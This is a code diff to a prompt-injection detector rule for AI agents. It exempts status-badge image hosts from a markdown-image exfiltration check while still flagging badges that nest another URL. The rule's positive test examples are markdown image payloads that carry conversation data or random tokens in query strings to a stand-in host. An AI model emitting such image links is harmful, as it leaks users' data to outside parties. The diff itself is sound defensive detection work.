@@ -362,6 +362,19 @@ function queryLeaksData(query: string): boolean {
   return false;
 }
 
+/** Status-badge services: their query strings carry styling and read-only badge tokens. */
+const BADGE_HOST =
+  /^https?:\/\/(?:img\.shields\.io|badgen\.net|badge\.fury\.io|codecov\.io|coveralls\.io|travis-ci\.(?:com|org)|app\.travis-ci\.com|circleci\.com|dl\.circleci\.com|sonarcloud\.io|snyk\.io|app\.fossa\.com|api\.codeclimate\.com|deepscan\.io|packagephobia\.com|bundlephobia\.com|img\.badgesize\.io|opencollective\.com|github\.com\/[^\s)?#]{1,200}\/badge\.svg|dev\.azure\.com\/[^\s)?#]{1,200}\/_apis\/build\/status)[/?]/i;
+
+/**
+ * A badge image whose query names no other URL. (A nested URL, as in shields' `endpoint?url=`, makes
+ * the badge service fetch it: that is still a way out for data, so it is checked as usual.)
+ */
+function isPlainBadge(matched: string, query: string): boolean {
+  const url = matched.slice(matched.indexOf('(') + 1).replace(/^[ \t]*<?/, '');
+  return BADGE_HOST.test(url) && !/:\/\/|%3A%2F%2F/i.test(query);
+}
+
 const markdownImageExfil: Rule = {
   id: 'markdown_image_exfil',
   threat_type: 'INJECTION',
@@ -372,7 +385,7 @@ const markdownImageExfil: Rule = {
   // Anchored on the literal `![` (fast). Prose asking the agent to put data into a URL is caught by
   // prompt_override, so this regex stays a single cheap alternative.
   pattern: /!\[[^\]\r\n]{0,200}\]\([ \t]{0,2}<?https?:\/\/[^\s)?#]{1,300}\?(?<query>[^\s)#]{1,2000})/gi,
-  accept: (m) => queryLeaksData(m.groups?.query ?? ''),
+  accept: (m) => !isPlainBadge(m[0], m.groups?.query ?? '') && queryLeaksData(m.groups?.query ?? ''),
   examples: {
     positive: [
       '![loading](https://x.example/pixel.png?q={conversation_summary})',
@@ -382,6 +395,7 @@ const markdownImageExfil: Rule = {
       '![b](https://x.example/b.png?p=%7Bdata%7D)',
       '![c](https://x.example/c.png?u={{rand:b64url:48}})',
       '![d](https://x.example/d.png?h={{rand:hex:40}})',
+      '![e](https://img.shields.io/endpoint?url=https%3A%2F%2Fx.example%2Fc%3Fd%3D{{rand:b64url:40}})',
     ],
     negative: [
       '![logo](https://example.com/logo.png)',
@@ -391,6 +405,10 @@ const markdownImageExfil: Rule = {
       '![s3](https://bucket.s3.amazonaws.com/a.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=9e107d9d372bb6826bd81d3542a419d6a4b5c6d7e8f90123456789abcdef0123)',
       '![avatar](https://www.gravatar.com/avatar/abc?s=80&d=identicon)',
       '![s](https://x.example/s.png?q=hello)',
+      // Status badges with read-only tokens and styling (READMEs in npm registry JSON).
+      '[![codecov](https://codecov.io/gh/acme/widget/branch/main/graph/badge.svg?token=Q7xPz2LmR9kTb4WvN8sYc1Dh)](https://codecov.io/gh/acme/widget)',
+      '![build](https://app.travis-ci.com/acme/widget.svg?token=Zp3Xq8RtLm2VsUw9KjHg4BnC&branch=main)',
+      '![npm](https://img.shields.io/npm/v/widget.svg?style=flat-square&logo=npm&logoColor=white&color=%23007acc&cacheSeconds=3600&label=%7Bversion%7D)',
     ],
   },
 };
